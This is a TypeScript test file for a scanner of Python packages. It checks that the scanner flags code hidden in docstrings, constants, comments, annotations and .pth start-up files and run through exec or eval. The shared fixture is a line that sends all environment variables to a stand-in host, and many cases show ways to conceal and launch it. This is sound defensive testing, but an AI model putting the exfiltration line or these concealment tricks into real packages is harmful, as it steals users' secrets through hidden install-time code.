import t from 'tap'
import { summarisePython } from '../../src/analysis/python/summarise.ts'
import { programsIn } from '../../src/analysis/python/carried/source-texts.ts'
import { seenFlows } from '../../src/checks/seen-flows.ts'
import { buildCodeIndex } from '../../src/inspection/code-index.ts'
import { inspect } from '../../src/inspection/inspect.ts'
import { sha256 } from '../../src/model/digest.ts'
import { readingOf } from './python-reading.ts'

const SEND = [
  'import json, os, urllib.request',
  "urllib.request.urlopen('https://c.invalid', data=json.dumps(dict(os.environ)).encode())",
  '',
]
const PROGRAM = SEND.join('\n')
const TEXT = `"""${PROGRAM}"""\n`
const REMARKS = SEND.map((line) => `# ${line}\n`).join('')
const LIST = `[${SEND.map((line) => JSON.stringify(line)).join(', ')}]\n`

type Files = Readonly<Record<string, string>>

/** Modules that run a text which stands in a source of the package. */
const RUN: readonly [situation: string, files: Files][] = [
  ['its own first text', { 'a/__init__.py': `${TEXT}exec(__doc__)\n` }],
  ['a part of that', { 'a/__init__.py': `"""Docs.\n---\n${PROGRAM}"""\nexec(__doc__.split("---")[1])\n` }],
  ['the same by way of globals', { 'a/__init__.py': `${TEXT}exec(globals()["__doc__"])\n` }],
  ['the same by way of sys.modules', { 'a/__init__.py': `${TEXT}import sys\nexec(sys.modules[__name__].__doc__)\n` }],
  ['the first text of a function', { 'a/__init__.py': `def f():\n    ${TEXT}exec(f.__doc__)\n` }],
  ['the same by inspect', { 'a/__init__.py': `import inspect\ndef f():\n    ${TEXT}exec(inspect.getdoc(f))\n` }],
  ['the same by getattr', { 'a/__init__.py': `def f():\n    ${TEXT}exec(getattr(f, "__doc__"))\n` }],
  ['the first text of a class', { 'a/__init__.py': `class C:\n    ${TEXT}exec(C.__doc__)\n` }],
  ['the first text of a module', { 'a/__init__.py': 'from . import b\nexec(b.__doc__)\n', 'a/b.py': TEXT }],
  [
    'the first text of a function of a module',
    { 'a/__init__.py': 'from .b import f\nexec(f.__doc__)\n', 'a/b.py': `def f():\n    ${TEXT}` },
  ],
  ['a constant of a module', { 'a/__init__.py': 'from .b import C\nexec(C)\n', 'a/b.py': `C = ${TEXT}` }],
  ['by its whole name', { 'a/__init__.py': 'import a.b\nexec(a.b.C)\n', 'a/b.py': `C = ${TEXT}` }],
  ['by a star', { 'a/__init__.py': 'from .b import *\nexec(C)\n', 'a/b.py': `C = ${TEXT}` }],
  ['out of its names', { 'a/__init__.py': 'from . import b\nexec(vars(b)["C"])\n', 'a/b.py': `C = ${TEXT}` }],
  [
    'out of sys.modules',
    { 'a/__init__.py': 'import sys\nfrom . import b\nexec(sys.modules["a.b"].C)\n', 'a/b.py': `C = ${TEXT}` },
  ],
  [
    'of a module in a folder, by way of another one',
    {
      'a/__init__.py': 'from .b.c import D\nexec(D["x"])\n',
      'a/b/__init__.py': '',
      'a/b/c.py': 'from .d import D\n',
      'a/b/d.py': `D = {"x": ${TEXT}}`,
    },
  ],
  [
    'of a module that is too large to be followed',
    { 'a/__init__.py': 'from .b import C\nexec(C)\n', 'a/b.py': `${'x = 1\n'.repeat(2000)}C = ${TEXT}` },
  ],
  ['a default value', { 'a/__init__.py': `def f(a=${TEXT.trim()}): pass\nexec(f.__defaults__[0])\n` }],
  ['an annotation', { 'a/__init__.py': `def f(a: ${TEXT.trim()}): pass\nexec(f.__annotations__["a"])\n` }],
  [
    'lines of a list, by a function of another module',
    { 'a/__init__.py': `from .b import go\ngo(${LIST.trim()})\n`, 'a/b.py': 'def go(t):\n    exec("\\n".join(t))\n' },
  ],
  ['remarks of its own source', { 'a/__init__.py': `exec(open(__file__).read().split("!")[-1])\n# !\n${REMARKS}` }],
  [
    'remarks of a function',
    {
      'a/__init__.py': 'import inspect\nfrom . import b\nexec(inspect.getsource(b.f).replace("# ", ""))\n',
      'a/b.py': `def f():\n    pass\n${REMARKS.replaceAll(/^/gm, '    ')}`,
    },
  ],
  [
    'a text that a .pth file runs',
    { 'a.pth': 'import a.b; exec(a.b.C)\n', 'a/__init__.py': '', 'a/b.py': `C = ${TEXT}` },
  ],
]

/** The same texts, which nothing runs, and ordinary ones. */
const LEFT: readonly [situation: string, files: Files][] = [
  ['nothing runs a text', { 'a/__init__.py': `${TEXT}import os\nprint(__doc__)\n`, 'a/b.py': `C = ${TEXT}` }],
  ['what is run is known', { 'a/__init__.py': 'exec("x = 1")\n', 'a/b.py': `C = ${TEXT}` }],
  [
    'prose that tells how it is used',
    {
      'a/__init__.py': `"""Sends things.\n\nUse it so:\n\n    >>> import requests, os\n    >>> requests.post(url, dict(os.environ))\n"""\nexec(f())\n`,
    },
  ],
  [
    'a program that does no harm',
    { 'a/__init__.py': 'from .b import C\nexec(C)\n', 'a/b.py': 'C = "import os\\nx = os.sep"\n' },
  ],
]

function moments(files: Files): readonly string[] {
  return seenFlows(buildCodeIndex(readingOf('wheel', files), 'pypi'))
    .filter(({ flow, live }) => live && flow.source.kind === 'env' && flow.sink.kind === 'network')
    .map(({ moment }) => moment)
}

t.test('a text of the package that is run is read as code', async (t) => {
  for (const [situation, files] of RUN) t.ok(moments(files).length > 0, situation)
})

t.test('one that is not run is left', async (t) => {
  for (const [situation, files] of LEFT) t.same(moments(files), [], situation)
})

const SUMMARY = 'from importlib.metadata import metadata\nexec(metadata("a")["Summary"])\n'

/** Where code runs a text that stands nowhere in the package, what is said of it. */
const UNTOLD: readonly [situation: string, kind: 'wheel' | 'sdist', files: Files, want: readonly string[]][] = [
  ['an import', 'wheel', { 'a/__init__.py': SUMMARY }, ['not-examined medium']],
  [
    'an import, behind another text that is known',
    'wheel',
    { 'a/__init__.py': 'exec("x = 1")\nfrom . import b\n', 'a/b.py': SUMMARY.replace('exec', 'eval') },
    ['not-examined medium'],
  ],
  ['a module that nothing imports', 'wheel', { 'a/__init__.py': '', 'a/b.py': SUMMARY }, ['not-examined low']],
  ['a function that nobody calls', 'wheel', { 'a/__init__.py': 'def f(t):\n    exec(t)\n' }, []],
  [
    'a start-up file',
    'wheel',
    { 'a.pth': `import os; ${SUMMARY.replace('\n', '; ')}`, 'a/__init__.py': '' },
    ['executable-pth high'],
  ],
  [
    'a module that a start-up file loads',
    'wheel',
    { 'a.pth': 'import a.b\n', 'a/__init__.py': '', 'a/b.py': SUMMARY },
    ['executable-pth high'],
  ],
  ['setup.py', 'sdist', { 'setup.py': `${SUMMARY}from setuptools import setup\nsetup()\n` }, ['setup-py-code medium']],
  [
    'the file of its version, by a path that is put together',
    'sdist',
    {
      'setup.py':
        'from pathlib import Path\nP = Path(__file__).parent / "a"\nwith (P / "v.py").open() as f:\n    exec(f.read())\nfrom setuptools import setup\nsetup()\n',
      'a/v.py': 'v = "1"\n',
    },
    [],
  ],
  [
    'the file of its version, below the folder of setup.py',
    'sdist',
    {
      'setup.py':
        'from pathlib import Path\nd = Path(__file__).parent\nv = {}\nexec(d.joinpath("a", "v.py").read_text(), {}, v)\nfrom setuptools import setup\nsetup()\n',
      'a/v.py': 'v = "1"\n',
    },
    [],
  ],
  [
    'a marker of settings, worked out with names of its own',
    'sdist',
    {
      'setup.py':
        'import sys\nfrom setuptools import setup\ndef marks(value):\n    return eval(value.strip(), {"sys": sys})\nmarks(input())\nsetup()\n',
    },
    ['setup-py-code low'],
  ],
  [
    'an expression of a function that another module seems to call',
    'wheel',
    {
      'a/__init__.py': 'from .tools import shown\n@shown\ndef greet(): pass\n',
      'a/tools.py': 'def shown(f):\n    return eval(f.__doc__)\n',
    },
    [],
  ],
]

t.test('of a text that is run and cannot be told that is said, with its moment', async (t) => {
  for (const [situation, kind, files, want] of UNTOLD) {
    const reading = readingOf(kind, files)
    const facts = await inspect(reading, { digest: sha256('x'), readAs: kind === 'wheel' ? kind : 'sdist-gzip' })
    const said = facts.findings.filter(({ check }) =>
      ['not-examined', 'executable-pth', 'setup-py-code'].includes(check),
    )
    t.same(
      said.map(({ check, severity }) => `${check} ${severity}`),
      want,
      situation,
    )
  }
})

t.test('a source of more than 2,000,000 units is not looked through for texts', async (t) => {
  for (const [units, count] of [
    [2_000_000, 1],
    [2_000_001, 0],
  ] as const) {
    const head = `C = ${TEXT}`
    t.equal(programsIn(head + '\n'.repeat(units - head.length)).length, count, `${units}`)
  }
  const unclosed = `"""${'\\"""'.repeat(200_000)}`
  t.equal(programsIn(unclosed).length, 0, 'quotes that nothing closes take one pass')
})

/** Starts a command of so many words. */
function starting(count: number): string {
  const words = Array.from({ length: count }, (_, at) => `"w${at}"`)
  return `import subprocess\nsubprocess.run([${words.join(', ')}])`
}

t.test('a command of more than 48 words that stand in a list is told as one that was not read', async (t) => {
  t.equal(summarisePython('a.py', starting(48)).incomplete, undefined)
  t.match(summarisePython('a.py', starting(49)).incomplete, /more/)
})
